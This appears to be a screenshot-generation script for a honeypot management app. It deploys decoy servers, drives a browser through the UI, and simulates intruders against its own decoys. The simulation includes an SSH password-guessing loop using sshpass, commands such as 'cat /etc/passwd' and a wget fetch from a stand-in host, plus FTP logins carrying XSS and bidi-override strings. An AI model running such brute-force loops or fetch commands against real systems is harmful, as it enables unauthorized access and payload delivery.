// Pictures of the app, light and dark, for the documentation: `make screenshots`. It wants a server with an empty fleet whose deckies can be connected to. It
// deploys a fleet, has intruders call, and takes the pictures; scripts/e2e takes the fleet down.
import { execFile } from 'node:child_process'
import { mkdir } from 'node:fs/promises'
import { fileURLToPath } from 'node:url'
import { promisify } from 'node:util'
import { ask, ftpLogin, openBrowser, openPage, tearDown, until, url } from './browser.mjs'

const run = promisify(execFile)
const folder = fileURLToPath(new URL('../../docs/images/', import.meta.url))
await mkdir(folder, { recursive: true })

const fleet = [
  { name: 'web', count: 3, archetype: 'web-server' }, { name: 'db', count: 2, archetype: 'database-server' }, { name: 'files', services: ['ftp', 'ssh'] },
  { name: 'mail', archetype: 'mail-server' }, { name: 'edge', count: 2, services: ['ssh', 'telnet'] }, { name: 'desk', count: 3 },
]
await ask('mutation ($deckies: [DeckySpec!]!) { deploy(input: { mutateInterval: "6h", deckies: $deckies }) { lifecycleIds } }', { deckies: fleet })
await until(async () => (await ask('{ deckies(first: 1, where: { stateNEQ: RUNNING }) { totalCount } }')).deckies.totalCount === 0, 'the fleet runs', 120_000)
await intrude()
for (const name of ['web-02', 'desk-01', 'edge-02']) await ask('mutation ($n: String!) { mutateDecky(input: { name: $n }) { lifecycleIds } }', { n: name })

for (const colorScheme of ['light', 'dark']) {
  const browser = await openBrowser({ colorScheme, viewport: { width: 1360, height: 850 } })
  const page = await openPage(browser)
  const shoot = async (name, ready) => {
    await page.locator('[data-connection=live]').waitFor()
    await ready()
    await page.mouse.move(0, 0)
    await page.screenshot({ path: `${folder}${name}-${colorScheme}.png` })
  }
  await shoot('fleet', () => until(async () => /^[1-9]/.test(await page.locator('[data-decky=files] .spark-sum').textContent()), 'touches are drawn'))
  await page.goto(`${url}/deploy`)
  await page.getByRole('radio', { name: /File Server/ }).check()
  await page.getByLabel('Name prefix').fill('store')
  await shoot('deploy', () => page.locator('[data-planned="store-03"]').getByText('smb').waitFor())
  await page.getByLabel('Deployment', { exact: true }).fill('dmz')
  await page.getByRole('button', { name: 'Deploy 3 deckies' }).and(page.locator(':enabled')).click()
  await shoot('progress', () => until(async () => await page.locator('[data-progress][data-status=succeeded]').count() === 3, 'they are up'))
  await tearDown('dmz')
  await page.goto(`${url}/deckies/default/files`)
  await shoot('decky', () => page.locator('[data-interaction]').nth(5).waitFor())
  await page.goto(`${url}/lifecycles`)
  await shoot('lifecycles', () => page.locator('[data-lifecycle]').nth(5).waitFor())
  await page.goto(`${url}/interactions`)
  await shoot('interactions', () => page.locator('.recharts-bar-rectangle path').first().waitFor())
  await page.goto(`${url}/sessions`)
  await page.getByRole('link', { name: /^Terminal: ssh/ }).first().click()
  await shoot('session', () => page.locator('[data-frames] .terminal-line').nth(3).waitFor())
  await page.goto(`${url}/credentials`)
  await shoot('credentials', () => page.locator('[data-credential]').nth(3).waitFor())
  await page.goto(`${url}/graphiql`)
  await page.locator('.graphiql-query-editor .view-line').filter({ hasText: 'DeployThree' }).waitFor()
  await page.getByRole('tab', { name: 'WatchFleet' }).click()
  await page.locator('.graphiql-query-editor .view-line').filter({ hasText: 'WatchFleet' }).waitFor()
  await page.getByRole('button', { name: /^Execute/ }).click()
  await page.locator('.graphiql-response .view-line').filter({ hasText: 'endpoints' }).waitFor()
  await page.screenshot({ path: `${folder}graphiql-${colorScheme}.png` })
  await browser.close()
}

/** Calls as intruders do: guesses, markup, bytes that hide, and a visit to a shell. */
async function intrude() {
  const endpoint = async (name, service) =>
    (await ask('query ($n: String!) { decky(name: $n) { endpoints { service address port } } }', { n: name })).decky.endpoints.find((e) => e.service === service)
  const ftp = await endpoint('files', 'ftp')
  for (const [user, pass] of [['admin', 'admin'], ['root', 'toor'], ['root', '123456'], ['<script>alert(1)</script>', 'letmein'], ['backup\u202Efdp.exe', 'p\u0007ss'], ['admin', 'admin']]) {
    await ftpLogin(ftp.address, ftp.port, user, pass)
  }
  const ssh = await endpoint('files', 'ssh')
  const guesses = ['root', '123456', 'admin', 'password', 'toor', 'qwerty', '1234', 'raspberry', 'ubuntu', 'changeme']
  for (const guess of guesses) {
    const shell = run('sshpass', ['-p', guess, 'ssh', '-tt', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'ConnectTimeout=5', '-p', String(ssh.port), `root@${ssh.address}`])
    shell.child.stdin.end('id\nuname -a\ncat /etc/passwd\nwget http://203.0.113.9/x.sh\nexit\n')
    if (await shell.then(() => true, () => false)) break
  }
}
